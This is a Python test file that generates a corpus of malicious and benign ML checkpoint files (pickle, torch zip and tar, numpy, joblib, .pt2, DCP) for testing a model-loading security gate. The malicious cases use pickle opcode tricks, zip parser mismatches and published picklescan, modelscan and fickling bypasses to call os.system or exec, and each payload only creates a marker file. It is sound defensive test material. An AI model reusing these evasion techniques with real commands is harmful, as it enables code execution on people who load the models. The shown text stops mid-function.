"""The gate's attack corpus: ``make(out_dir) -> {case: {"path", "class", "technique", "source"}}``.

Deterministic (same bytes every run). Every payload is a harmless marker: it creates a file
``PWNED-<case>`` in the folder named by ``$CKPT_ORACLE_MARKERS`` (or in the current folder
when that is unset; the oracle runs loaders in a throwaway copy). Malicious cases cover lead
opcodes other than PROTO, argument encodings CPython's unpickler accepts and pickletools does
not, memo and FRAME tricks, suffixes, torch's legacy tar and legacy stacked-pickle layouts, zip
archives that Python's zipfile and torch's miniz reader see differently, joblib, numpy,
``.pt2`` and DCP containers, a shadowing package beside a pickle, and the published bypasses of
picklescan, modelscan, fickling and torch's ``weights_only`` (``source`` names the advisory).
Benign cases are ordinary outputs of the real writers. ``tests/security_oracle.py`` proves
each malicious case runs under at least one real loader (``tests/test_gate_oracle.py``).

    python tests/hostile/attack_corpus.py OUT_DIR
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

MARKER_ENV = "CKPT_ORACLE_MARKERS"
Cases = dict[str, dict[str, str]]


# ---------------------------------------------------------------------------- payloads


def cmd(case: str) -> str:
    """A shell command that only creates the case's marker."""
    return f'touch "${{{MARKER_ENV}:-.}}/PWNED-{case}"'


def pycode(case: str) -> str:
    """Python source that only creates the case's marker (no single quotes: fits ``S'...'``)."""
    return (
        f'import os;open(os.path.join(os.environ.get("{MARKER_ENV}","."),"PWNED-{case}"),'
        '"w").close()'
    )


class Reduce:
    """Pickles as ``func(*args)``: how attackers put a call into a file with the real writer."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def ustr(text: str | bytes) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``text``."""
    raw = text.encode() if isinstance(text, str) else text
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def s0(text: str) -> bytes:
    """Protocol-0 STRING ``S'text'``."""
    assert "'" not in text and "\\" not in text
    return b"S'" + text.encode() + b"'\n"


def glob(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod: str, name: str) -> bytes:
    return ustr(mod) + ustr(name) + b"\x93"


def system_body(case: str) -> bytes:
    """Opcodes (protocol 0 compatible) that call ``os.system`` and leave its result."""
    return glob("os", "system") + b"(" + s0(cmd(case)) + b"tR"


def payload(case: str, proto: int = 2) -> bytes:
    """A whole pickle calling ``os.system``."""
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + system_body(case) + b"."


def exec_body(case: str) -> bytes:
    return glob("builtins", "exec") + b"(" + s0(pycode(case)) + b"tR"


# ---------------------------------------------------------------------------- zip writer


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


class Zip:
    """A minimal zip writer with every field under control (the tricks need that)."""

    def __init__(self, prefix: bytes = b"") -> None:
        self.buf = bytearray(prefix)

    def add(
        self,
        name: str,
        data: bytes,
        method: int = 0,
        flags: int = 0,
        crc: int | None = None,
        local_name: str | None = None,
    ) -> dict[str, Any]:
        comp = deflate(data) if method == 8 else data
        crc = zlib.crc32(data) if crc is None else crc
        nm = (local_name or name).encode()
        off = len(self.buf)
        self.buf += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc, len(comp), len(data),
            len(nm), 0,
        )  # fmt: skip
        self.buf += nm + comp
        return {"name": name, "offset": off, "crc": crc, "csize": len(comp), "usize": len(data),
                "method": method, "flags": flags}  # fmt: skip

    @staticmethod
    def central(entries: list[dict[str, Any]], shift: int = 0, size: int = 0) -> bytes:
        """Central directory records; offsets minus ``shift``; the last comment pads the
        whole to ``size`` bytes when given."""
        out = bytearray()
        for i, e in enumerate(entries):
            nm = e["name"].encode()
            rec = struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, e["flags"], e["method"], 0, 0x21,
                e["crc"], e["csize"], e["usize"], len(nm), 0, 0, 0, 0, 0, e["offset"] - shift,
            ) + nm  # fmt: skip
            if size and i == len(entries) - 1:
                pad = size - len(out) - len(rec)
                assert 0 <= pad < 65536, pad
                rec = rec[:32] + struct.pack("<H", pad) + rec[34:] + b" " * pad
            out += rec
        return bytes(out)

    @staticmethod
    def eocd(count: int, size: int, offset: int) -> bytes:
        return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)

    def finish(self, entries: list[dict[str, Any]]) -> bytes:
        off = len(self.buf)
        cd = self.central(entries)
        return bytes(self.buf) + cd + self.eocd(len(entries), len(cd), off)


def torch_members(obj: Any = None, **save_kw: Any) -> list[tuple[str, bytes]]:
    """The members of a real ``torch.save`` zip, in order."""
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)} if obj is None else obj, buf, **save_kw)
    with zipfile.ZipFile(buf) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def torch_zip(pkl: bytes | None = None, **add_kw: Any) -> bytes:
    """A real torch.save zip, its data.pkl replaced by ``pkl`` (written with ``add_kw``)."""
    z = Zip()
    entries = []
    for name, data in torch_members():
        if name.endswith("/data.pkl") and pkl is not None:
            entries.append(z.add(name, pkl, **add_kw))
        else:
            entries.append(z.add(name, data))
    return z.finish(entries)


def npy_bytes(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def obj_array(case: str) -> np.ndarray:
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = Reduce(os.system, cmd(case)), 1
    return arr


# ---------------------------------------------------------------------------- the cases


class Corpus:
    """Collects cases: ``add(name, klass, technique, source)`` after writing the file."""

    def __init__(self, out: Path) -> None:
        self.out = out
        self.cases: Cases = {}

    def file(self, name: str, data: bytes, klass: str, technique: str, source: str = "own",
             rel: str | None = None) -> Path:  # fmt: skip
        p = self.out / (rel or name)
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        self.add(name, p, klass, technique, source)
        return p

    def add(self, name: str, path: Path, klass: str, technique: str, source: str = "own") -> None:
        assert name not in self.cases, name
        self.cases[name] = {
            "path": str(path.relative_to(self.out)),
            "class": klass,
            "technique": technique,
            "source": source,
        }


def _lead_cases(c: Corpus) -> None:
    leads = {
        "empty_set": (b"\x8f0", "EMPTY_SET POP before the payload, no PROTO"),
        "long4": (b"\x8b\x01\x00\x00\x00\x2a0", "LONG4 POP lead, no PROTO"),
        "binunicode8": (b"\x8d" + struct.pack("<Q", 2) + b"hi0", "BINUNICODE8 POP lead"),
        "binbytes8": (b"\x8e" + struct.pack("<Q", 2) + b"hi0", "BINBYTES8 POP lead"),
        "bytearray8": (b"\x96" + struct.pack("<Q", 2) + b"hi0", "BYTEARRAY8 POP lead"),
        "mark_popmark": (b"(1", "MARK POP_MARK lead"),
        "none_pop": (b"N0", "NONE POP lead"),
        "frame_no_proto": (b"\x95" + struct.pack("<Q", 2) + b"N0", "FRAME without PROTO lead"),
        "int_hex": (b"I0x2a\n0", "INT argument 0x2a (base 0 in _pickle; pickletools rejects)"),
        "long_hex": (b"L0x2aL\n0", "LONG argument 0x2aL"),
        "int_octal": (b"I0o52\n0", "INT argument 0o52"),
        "int_binary": (b"I0b101010\n0", "INT argument 0b101010"),
        "int_underscore": (b"I4_2\n0", "INT argument with an underscore 4_2"),
        "int_nul": (b"I42\x00junk\n0", "INT line truncated at NUL (strtol stops there)"),
        "float_nul": (b"F1.5\x00junk\n0", "FLOAT line truncated at NUL"),
    }
    for key, (lead, technique) in leads.items():
        name = f"lead_{key}.pkl"
        c.file(name, lead + system_body(name) + b".", "malicious", technique)
    # payload with a STRING module name (picklescan GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL of S'')
    name = "string_stack_global.pkl"
    body = s0("os") + s0("system") + b"\x93" + s0(cmd(name)) + b"\x85R."
    c.file(name, body, "malicious", "STRING operands to STACK_GLOBAL, no PROTO",
           "GHSA-9gvj-pp9x-gcfr")  # fmt: skip
    # a non-ASCII S'' string: torch.load passes encoding="utf-8", pickle.load's ASCII fails
    name = "nonascii_string_torch.pt"
    pkl = b"\x80\x02S'\xc3\xa9t\xc3\xa9'\n0" + system_body(name) + b"."
    c.file(name, torch_zip(pkl), "malicious", "non-ASCII S'' before the payload in data.pkl")


def _memo_frame_cases(c: Corpus) -> None:
    name = "memo_memoize_after_put.pkl"
    body = (
        b"\x80\x04" + ustr("torch._utils") + b"q\x01" + b"0"  # BINPUT 1, POP
        + ustr("os") + b"\x94" + b"0"  # MEMOIZE stores at len(memo) == 1, not 0
        + ustr("system") + b"q\x02" + b"0"
        + b"h\x01h\x02\x93" + ustr(cmd(name)) + b"\x85R."
    )  # fmt: skip
    c.file(name, body, "malicious", "MEMOIZE numbers by len(memo): it overwrites a PUT index",
           "picklescan#22 (memo confusion)")  # fmt: skip
    name = "memo_reput.pkl"
    body = (
        b"\x80\x04" + ustr("torch._utils") + b"p0\n0" + ustr("os") + b"p0\n0"
        + ustr("_rebuild_tensor_v2") + b"p1\n0" + ustr("system") + b"p1\n0"
        + b"g0\ng1\n\x93" + ustr(cmd(name)) + b"\x85R."
    )  # fmt: skip
    c.file(name, body, "malicious", "GET of a re-PUT memo index (the last PUT wins)")
    name = "memo_long_binput.pkl"
    body = (
        b"\x80\x04" + ustr("os") + b"r\x00\x00\x01\x000" + ustr("system") + b"\x94"
        + b"j\x00\x00\x01\x00" + b"h\x01\x93" + ustr(cmd(name)) + b"\x85R."
    )  # fmt: skip
    c.file(name, body, "malicious", "LONG_BINPUT at a high index, MEMOIZE numbered after it")
    # frames
    inner = sglob("os", "system") + ustr(cmd("frame_short_last.pkl")) + b"\x85R."
    name = "frame_short_last.pkl"
    c.file(name, b"\x80\x04\x95" + struct.pack("<Q", 4) + inner, "malicious",
           "a last FRAME shorter than the opcodes left (the rest is read unframed)")  # fmt: skip
    name = "frame_straddle.pkl"
    inner = sglob("os", "system") + ustr(cmd(name)) + b"\x85R."
    c.file(name, b"\x80\x04\x95" + struct.pack("<Q", 5) + inner, "malicious",
           "an opcode straddling the end of a FRAME (C unpickler accepts)")  # fmt: skip
    name = "frame_inside_frame.pkl"
    inner = sglob("os", "system") + ustr(cmd(name)) + b"\x85R."
    c.file(name, b"\x80\x04\x95" + struct.pack("<Q", len(inner) + 9)
           + b"\x95" + struct.pack("<Q", len(inner)) + inner, "malicious",
           "a FRAME opcode inside a frame")  # fmt: skip


def _legacy_parts(obj: Any = None) -> list[bytes]:
    """The five pickles (and the raw storage tail) of a legacy torch.save file."""
    from pickletools import genops

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)} if obj is None else obj, buf,
               _use_new_zipfile_serialization=False)  # fmt: skip
    raw = buf.getvalue()
    stream, starts = io.BytesIO(raw), []
    for _ in range(5):
        starts.append(stream.tell())
        for _op in genops(stream):
            pass
    starts.append(stream.tell())
    return [raw[starts[i] : starts[i + 1]] for i in range(5)] + [raw[starts[5] :]]


MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_cases(c: Corpus) -> None:
    magics = {
        "long_text": b"L%dL\n." % MAGIC,
        "long1_proto2": b"\x80\x02\x8a" + bytes([len(pickle.encode_long(MAGIC))])
        + pickle.encode_long(MAGIC) + b".",
        "protocol0": pickle.dumps(MAGIC, protocol=0),
        "extra_memoize": b"\x80\x04\x8a" + bytes([len(pickle.encode_long(MAGIC))])
        + pickle.encode_long(MAGIC) + b"\x94\x94.",
    }  # fmt: skip
    parts = _legacy_parts()
    for mkey, magic in magics.items():
        for i, what in enumerate(("magic", "protocol", "sysinfo", "data", "keys")):
            name = f"legacy_{mkey}_{what}.pt"
            pieces = [magic, *parts[1:]]
            pieces[i] = payload(name)
            c.file(
                name,
                b"".join(pieces),
                "malicious",
                f"legacy torch file, magic pickle as {mkey}, payload in the {what} pickle",
            )
    # STOP mid-frame: the bytes after STOP inside the frame are where torch's C unpickler
    # (reading through peek) continues; pure-Python framing would skip to the frame's end
    name = "legacy_stop_mid_frame.pt"
    magic_ops = b"\x8a" + bytes([len(pickle.encode_long(MAGIC))]) + pickle.encode_long(MAGIC)
    evil = payload(name)
    frame = magic_ops + b"." + evil
    pkl = b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
    c.file(
        name,
        pkl + b"".join(parts[1:]),
        "malicious",
        "STOP mid-frame of the magic pickle, the payload pickle inside the same frame",
    )
    name = "legacy_pickle_after_big_frame.pt"
    pad = b"N0" * (40 << 10)
    frame = magic_ops + b"." + pad
    pkl = b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame
    c.file(
        name,
        pkl + payload(name) + b"".join(parts[2:]),
        "malicious",
        "STOP early in an 80 KiB frame, the payload pickle right after the frame",
    )
    # the published magic-number bypass: the magic number made by eval
    name = "legacy_magic_by_eval.pt"
    magic_eval = b"\x80\x02" + glob("builtins", "eval") + ustr(hex(MAGIC)) + b"\x85R."
    c.file(name, magic_eval + payload(name) + b"".join(parts[2:]), "malicious",
           "legacy file whose magic number is computed by eval, payload in the next pickle",
           "picklescan tests pytorch_magic_bypass.pt")  # fmt: skip


def _tar_cases(c: Corpus) -> None:
    def tar(members: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
            for n, data in members.items():
                info = tarfile.TarInfo(n)
                info.size, info.mtime, info.mode = len(data), 0, 0o644
                t.addfile(info, io.BytesIO(data))
        return buf.getvalue()

    benign = {
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps({"a": 1}, protocol=2),
    }
    for member in benign:
        name = f"tar_legacy_{member}.pt"
        members = dict(benign)
        members[member] = payload(name) + (pickle.dumps([], 2) if member == "storages" else b"")
        c.file(name, tar(members), "malicious",
               f"torch's legacy tar format, payload in the '{member}' member",
               "CVE-2025-32434 (tar format path of torch.load)")  # fmt: skip
    c.file("tar_legacy_benign.pt", tar(benign), "benign", "torch's legacy tar format, no code")


def _suffix_cases(c: Corpus) -> None:
    for suffix in (".npy", ".th", ".p", ".joblib", ".pt.bak", ""):
        name = f"proto0{suffix or '_nosuffix'}"
        c.file(name, pickle.dumps(Reduce(os.system, cmd(name)), protocol=0), "malicious",
               f"protocol-0 pickle named {suffix or 'without a suffix'}",
               "CVE-2025-1889 / CVE-2025-10155 (extension-based scanning)")  # fmt: skip
    name = "npy_object_array.npy"
    c.file(name, npy_bytes(obj_array(name)), "malicious", "numpy .npy with object dtype")
    name = "npz_object_member.npz"
    buf = io.BytesIO()
    np.savez(buf, ok=np.arange(3), obj=obj_array(name))
    c.file(name, buf.getvalue(), "malicious", "numpy .npz whose member is an object array")
    name = "npz_compressed_object_member.npz"
    buf = io.BytesIO()
    np.savez_compressed(buf, obj=obj_array(name))
    c.file(name, buf.getvalue(), "malicious", "compressed .npz, object array member")
    # a symlinked checkpoint folder inside a run folder
    name = "symlinked_run"
    real = c.out / name / "storage" / "ckpt-1"
    real.mkdir(parents=True)
    torch.save({"w": torch.ones(2), "x": Reduce(os.system, cmd(name))}, real / "model.pt")
    run = c.out / name / "run"
    run.mkdir()
    os.symlink(os.path.join("..", "storage", "ckpt-1"), run / "latest")
    c.add(name, run, "malicious", "a run folder whose checkpoint folder is a symlink")


def _joblib_cases(c: Corpus) -> None:
    try:
        import joblib
    except ImportError:
        return
    for comp in (0, "zlib", "gzip", "bz2", "xz", "lzma"):
        for where in ("pickle", "objarray"):
            label = comp or "none"
            name = f"joblib_{label}_{where}.joblib"
            p = c.out / name
            obj: Any = Reduce(os.system, cmd(name))
            if where == "objarray":
                obj = {"weights": np.arange(4.0), "meta": obj_array(name)}
            joblib.dump(obj, p, compress=(comp, 3) if comp else 0)
            c.add(name, p, "malicious", f"joblib dump ({label}), payload in the {where}")
    p = c.out / "benign_joblib_arrays.joblib"
    joblib.dump({"a": np.arange(10.0), "b": np.ones((2, 3), np.float32)}, p)
    c.add(p.name, p, "benign", "joblib dump of plain arrays")
    p = c.out / "benign_joblib_arrays_zlib.joblib"
    joblib.dump({"a": np.arange(10.0)}, p, compress=("zlib", 3))
    c.add(p.name, p, "benign", "compressed joblib dump of plain arrays")


def _zip_cases(c: Corpus) -> None:
    members = torch_members()
    pkl_name = next(n for n, _ in members if n.endswith("/data.pkl"))
    prefix = pkl_name.split("/")[0]

    def two_cdirs(miniz: list[tuple[str, bytes]], python: list[tuple[str, bytes]]) -> bytes:
        """Two central directories: miniz reads the one EOCD's offset names, Python the one
        right before EOCD (it takes the gap for prepended bytes and shifts every offset).
        Each view has its own local records; Python's come second, past the shift."""
        z = Zip()
        ms = [z.add(n, d) for n, d in miniz]
        ps = [z.add(n, d) for n, d in python]
        at = len(z.buf)
        cd_m = Zip.central(ms)
        cd_p = Zip.central(ps, shift=len(cd_m), size=len(cd_m))
        assert min(e["offset"] for e in ps) >= len(cd_m)
        return bytes(z.buf) + cd_m + cd_p + Zip.eocd(len(ms), len(cd_m), at)

    name = "zip_two_cdirs_miniz.pt"
    evil = [(n, payload(name) if n == pkl_name else d) for n, d in members]
    c.file(
        name,
        two_cdirs(evil, members),
        "malicious",
        "two central directories; miniz (torch) reads the payload data.pkl, Python a clean one",
    )
    # the Python view is an npz with an object array; miniz sees a clean torch zip
    name = "zip_two_cdirs_npz.npz"
    c.file(
        name,
        two_cdirs(members, [("obj.npy", npy_bytes(obj_array(name)))]),
        "malicious",
        "two central directories: torch sees a clean archive, numpy an object-array npz",
    )
    # zip64: Python reads the zip64 end record right before the locator, miniz the one the
    # locator points at
    npz_view = [("obj.npy", b"")]  # filled per case

    def views(name: str, view: str) -> tuple[list[tuple[str, bytes]], list[tuple[str, bytes]]]:
        """(what miniz reads, what Python reads): the payload in the view named."""
        if view == "miniz":
            return [(n, payload(name) if n == pkl_name else d) for n, d in members], members
        return members, [(npz_view[0][0], npy_bytes(obj_array(name)))]

    for view in ("miniz", "npz"):
        name = f"zip64_locator_{view}.{'pt' if view == 'miniz' else 'npz'}"
        z = Zip()
        m_view, p_view = views(name, view)
        miniz = [z.add(n, d) for n, d in m_view]
        python = [z.add(n, d) for n, d in p_view]
        out = bytearray(z.buf)
        cd_m_at = len(out)
        out += Zip.central(miniz)
        r_m_at = len(out)
        out += _zip64_record(len(miniz), len(out) - cd_m_at, cd_m_at)
        cd_p_at = len(out)
        out += Zip.central(python)
        out += _zip64_record(len(python), len(out) - cd_p_at, cd_p_at)
        out += struct.pack("<IIQI", 0x07064B50, 0, r_m_at, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                           0xFFFFFFFF, 0)  # fmt: skip
        c.file(
            name,
            bytes(out),
            "malicious",
            "two zip64 end records, the locator points at the first (miniz follows it, "
            f"Python reads the one before the locator); payload in the {view} view",
        )
    # prepended bytes: Python shifts every offset by the prefix, miniz does not
    for view in ("miniz", "npz"):
        name = f"zip_prefix_{view}.{'pt' if view == 'miniz' else 'npz'}"
        p_members, z_members = views(name, view)
        zz = Zip()
        zg = [zz.add(n, d) for n, d in z_members]
        zz.add("spacer", bytes(4096))  # in no directory: it only moves the directory's offset
        zg.append(zz.add("z" * 80, b""))
        while len(zg) < len(p_members):
            zg.append(zz.add("z" * (80 + len(zg)), b""))
        c_rel = len(zz.buf)
        cd_z = Zip.central(zg)
        pz = Zip()
        pm = [pz.add(n, d) for n, d in p_members]
        while len(pm) < len(zg):
            pm.append(pz.add(f"{prefix}/.pad{len(pm)}", b""))
        assert len(pz.buf) <= c_rel
        head = bytes(pz.buf) + bytes(c_rel - len(pz.buf)) + Zip.central(pm, size=len(cd_z))
        body = bytes(zz.buf) + cd_z + Zip.eocd(len(zg), len(cd_z), c_rel)
        c.file(name, head + body, "malicious",
               f"bytes prepended to a zip (Python shifts offsets, miniz does not); payload in "
               f"the archive {view} reads")  # fmt: skip
    # simple tricks on one archive
    simple: dict[str, tuple[Callable[[str], bytes], str, str]] = {
        "zip_local_name_differs.pt": (
            lambda n: torch_zip(payload(n), local_name=pkl_name[:-3] + "pkX"),
            "data.pkl's local header name differs from its directory name",
            "CVE-2025-1944",
        ),
        "zip_deflated_data_pkl.pt": (
            lambda n: torch_zip(payload(n), method=8), "data.pkl deflated", "own"),
        "zip_bad_crc.pt": (
            lambda n: torch_zip(payload(n), crc=0x1234), "data.pkl with a wrong CRC",
            "CVE-2025-1945 / CVE-2025-10156",
        ),
    }  # fmt: skip
    for name, (build, technique, source) in simple.items():
        c.file(name, build(name), "malicious", technique, source)
    # duplicates: exact and differing by case only (miniz's lookup ignores case); torch
    # reads the later one (a payload first and a clean twin after it runs under no loader)
    for order in ("benign_first",):
        for dup in ("exact", "case"):
            name = f"zip_dup_{dup}_{order}.pt"
            z = Zip()
            entries = []
            twin = pkl_name if dup == "exact" else pkl_name[: -len("data.pkl")] + "DATA.PKL"
            for n, d in members:
                if n == pkl_name:
                    pair = [(n, d), (twin, payload(name))]
                    if order == "payload_first":
                        pair = [(n, payload(name)), (twin, d)] if dup == "case" else pair[::-1]
                    entries += [z.add(a, b) for a, b in pair]
                else:
                    entries.append(z.add(n, d))
            c.file(
                name,
                z.finish(entries),
                "malicious",
                f"duplicate data.pkl ({dup} name), {order.replace('_', ' ')}",
            )
    # overlapping members: the directory's data.pkl is a local header hidden in a storage
    name = "zip_overlap_in_storage.pt"
    z = Zip()
    entries = []
    for n, d in members:
        if n.endswith("/data/0"):
            hidden = Zip()
            hidden.add(pkl_name, payload(name))
            start = len(z.buf) + 30 + len(n)
            entries.append(z.add(n, d + bytes(hidden.buf)))
            hid = dict(entries[-1], name=pkl_name, offset=start + len(d))
            hid.update(crc=zlib.crc32(payload(name)), csize=len(payload(name)),
                       usize=len(payload(name)))  # fmt: skip
        else:
            entries.append(z.add(n, d))
    entries = [hid if e["name"] == pkl_name else e for e in entries]
    c.file(
        name,
        z.finish(entries),
        "malicious",
        "data.pkl's directory entry points into another member's data",
    )
    # a data.pkl above 64 MiB, the payload at its end
    name = "zip_data_pkl_65mib.pt"
    blob = bytes(65 << 20)
    big = b"\x80\x02\x8e" + struct.pack("<Q", len(blob)) + blob + b"0" + system_body(name) + b"."
    c.file(name, torch_zip(big), "malicious", "data.pkl of 65 MiB, the payload after the bytes")


def _zip64_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)


def _pt2_cases(c: Corpus) -> None:
    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(2, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.fc(x)

    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.export.save(torch.export.export(Tiny(), (torch.ones(1, 2),)), buf)
    clean = buf.getvalue()
    c.file("benign_export.pt2", clean, "benign", "torch.export.save of a tiny module")

    def rewrite(swap: Callable[[str, bytes], bytes | None]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(clean)) as src, zipfile.ZipFile(out, "w") as dst:
            for info in src.infolist():
                new = swap(info.filename, src.read(info))
                dst.writestr(info.filename, src.read(info) if new is None else new)
        return out.getvalue()

    def blob(name: str) -> bytes:
        b = io.BytesIO()
        torch.save(Reduce(os.system, cmd(name)), b)
        return b.getvalue()

    name = "pt2_sample_inputs.pt2"
    c.file(
        name,
        rewrite(lambda n, d: blob(name) if n.endswith("sample_inputs/model.pt") else None),
        "malicious",
        "torch.export archive, sample inputs replaced by a torch.save payload",
    )

    name = "pt2_weight_use_pickle.pt2"

    def weights(n: str, d: bytes) -> bytes | None:
        if n.endswith("model_weights_config.json"):
            cfg = json.loads(d)
            first = next(iter(cfg["config"].values()))
            first["use_pickle"] = True
            return json.dumps(cfg).encode()
        if n.endswith("data/weights/weight_0"):
            return blob(name)
        return None

    c.file(
        name,
        rewrite(weights),
        "malicious",
        "torch.export archive, a weight stored with use_pickle holding a payload",
    )


def _dcp_cases(c: Corpus) -> None:
    import torch.distributed.checkpoint as dcp

    name = "dcp_bytes_item"
    d = c.out / name
    dcp.save({"a": torch.ones(3), "obj": Reduce(os.system, cmd(name)), "z": torch.zeros(2),
              "zz": {"k": 1}}, checkpoint_id=d)  # fmt: skip
    c.add(name, d, "malicious", "DCP folder, payload in a .distcp bytes item (not the last)")
    name = "dcp_metadata_mark_first"
    d = c.out / name
    dcp.save({"a": torch.ones(3)}, checkpoint_id=d)
    meta = (d / ".metadata").read_bytes()
    (d / ".metadata").write_bytes(b"(1" + system_body(name) + b"0" + meta[2:]
                                  if meta[:1] == b"\x80" else meta)  # fmt: skip
    c.add(name, d, "malicious", "DCP .metadata starting with MARK, payload before the metadata")
    name = "dcp_metadata_protocol0"
    d = c.out / name
    dcp.save({"a": torch.ones(3)}, checkpoint_id=d)
    (d / ".metadata").write_bytes(pickle.dumps(Reduce(os.system, cmd(name)), protocol=0))
    c.add(name, d, "malicious", "DCP .metadata as a protocol-0 payload pickle")
    d = c.out / "benign_dcp"
    dcp.save({"a": torch.ones(3), "step": 3, "cfg": {"lr": 0.1}}, checkpoint_id=d)
    c.add(d.name, d, "benign", "DCP folder from dcp.save")


def _shadow_cases(c: Corpus) -> None:
    name = "shadow_omegaconf"
    d = c.out / name
    pkg = d / "omegaconf"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text(pycode(name).replace(";", "\n") + "\n")
    (pkg / "dictconfig.py").write_text("class DictConfig(dict):\n    pass\n")
    pkl = b"\x80\x02" + glob("omegaconf.dictconfig", "DictConfig") + b")\x81."
    (d / "config.pkl").write_bytes(pkl)
    torch.save({"w": torch.ones(2)}, d / "model.pt")
    (d / "model_cfg.pt").write_bytes(torch_zip(pkl))
    c.add(
        name,
        d,
        "malicious",
        "the checkpoint folder ships omegaconf/ (allow-listed name) that the pickle imports",
    )
    name = "shadow_torch_py"
    d = c.out / name
    d.mkdir()
    (d / "torch.py").write_text(pycode(name).replace(";", "\n") + "\n")
    (d / "state.pkl").write_bytes(b"\x80\x02" + glob("torch._utils", "_rebuild_tensor_v2") + b"0N.")
    c.add(
        name,
        d,
        "malicious",
        "a torch.py beside a plain pickle naming torch._utils (fresh python -c shadows torch)",
    )


def _published(c: Corpus) -> None:
    """The published scanner bypasses, each made to really run its marker."""

    def p4(name: str, body: bytes, technique: str, source: str, suffix: str = ".pkl") -> None:
        c.file(name + suffix, b"\x80\x04" + body + b".", "malicious", technique, source)

    def call(callee: bytes, *args: bytes) -> bytes:
        return callee + b"(" + b"".join(args) + b"tR"

    def inst(mod: str, cls: str) -> bytes:  # an instance made by calling the class
        return sglob(mod, cls) + b")R"

    simple = [
        ("cprofile_run", "cProfile", "run", "py", "GHSA-49gj-c84q-6qm9"),
        ("cprofile_runctx", "cProfile", "runctx", "py+None+None", "GHSA-9w88-8rmg-7g2p"),
        ("profile_run", "profile", "run", "py", "GHSA-7wx9-6375-f5wh"),
        ("collect_env_run", "torch.utils.collect_env", "run", "sh", "GHSA-f745-w6jp-hpxx"),
        ("imaplib_stream", "imaplib", "IMAP4_stream", "sh", "GHSA-g38g-8gr9-h9xp"),
        ("osx_support_read_output", "_osx_support", "_read_output", "sh", "GHSA-g38g-8gr9-h9xp"),
        ("execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", "py+{}+{}",
         "GHSA-vr7h-p6mm-wpmh"),
        ("doctest_debug_script", "doctest", "debug_script", "py+True", "GHSA-fqq6-7vqf-w3fg"),
        ("numpy_runstring", "numpy.testing._private.utils", "runstring", "py+{}",
         "picklescan malicious22"),
        ("timeit_timeit", "timeit", "timeit", "''+py", "picklescan malicious21"),
        ("spawnv_passfds", "multiprocessing.util", "spawnv_passfds", "spawn",
         "protectai/modelscan#338"),
        ("uuid_command_stdout", "uuid", "_get_command_stdout", "touch", "GHSA-g38g-8gr9-h9xp"),
        ("distutils_write_file", "distutils.file_util", "write_file", "write",
         "GHSA-m273-6v24-x4m4 / CVE-2025-10155"),
    ]  # fmt: skip
    for key, mod, fn, args, source in simple:
        name = f"pub_{key}"
        marker = f"PWNED-{name}.pkl"
        arg_bytes = {
            "py": ustr(pycode(name + ".pkl")),
            "sh": ustr(cmd(name + ".pkl")),
            "py+None+None": ustr(pycode(name + ".pkl")) + b"NN",
            "py+{}+{}": ustr(pycode(name + ".pkl")) + b"}}",
            "py+{}": ustr(pycode(name + ".pkl")) + b"}",
            "py+True": ustr(pycode(name + ".pkl")) + b"\x88",
            "''+py": ustr("") + ustr(pycode(name + ".pkl")),
            "spawn": b"C\x07/bin/sh" + b"](" + ustr("/bin/sh") + ustr("-c")
            + ustr(cmd(name + ".pkl")) + b"e)",
            "touch": ustr("touch") + ustr(marker),
            "write": ustr(marker) + b"](" + ustr("x") + b"e",
        }[args]  # fmt: skip
        p4(name, call(sglob(mod, fn), arg_bytes), f"{mod}.{fn} runs code", source)
    # methods called on an instance made in the pickle
    for key, mod, cls, meth, extra, source in (
        ("profile_profile_run", "profile", "Profile", "run", b"", "GHSA-x696-vm39-cp64"),
        ("profile_profile_runctx", "profile", "Profile", "runctx", b"}}", "GHSA-6vqj-c2q5-j97w"),
        ("trace_trace_run", "trace", "Trace", "run", b"", "GHSA-5qwp-399c-mjwf"),
        ("trace_trace_runctx", "trace", "Trace", "runctx", b"}}", "GHSA-g344-hcph-8vgg"),
        ("interactive_runcode", "code", "InteractiveInterpreter", "runcode", b"",
         "GHSA-cj3c-v495-4xqh"),
    ):  # fmt: skip
